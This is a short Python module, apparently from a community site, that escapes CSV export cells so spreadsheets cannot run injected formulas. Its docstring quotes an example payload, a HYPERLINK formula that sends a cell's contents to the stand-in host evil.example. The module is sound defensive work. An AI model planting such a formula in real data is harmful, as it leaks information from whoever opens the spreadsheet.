"""CSV exports that a spreadsheet cannot be tricked into executing (CSV / formula injection).

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` as a
formula, and a leading tab or carriage return can hide one; a resident could write
`=HYPERLINK("https://evil.example?"&A1, "click")` as a question and a moderator's export would
run it. Every text cell that starts with one of those characters (or their full-width forms,
which some spreadsheets also accept) is prefixed with an apostrophe, which spreadsheets show
as plain text. Numbers stay numbers. Use `writer()` (or `safe_row`) for every export.
"""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """The value, with an apostrophe in front if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class SafeWriter:
    """csv.writer whose rows are made safe first."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> SafeWriter:
    return SafeWriter(stream, **kwargs)


def to_csv(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document as text (header included, made safe too)."""
    buffer = io.StringIO()
    out = writer(buffer)
    out.writerow(header)
    out.writerows(rows)
    return buffer.getvalue()
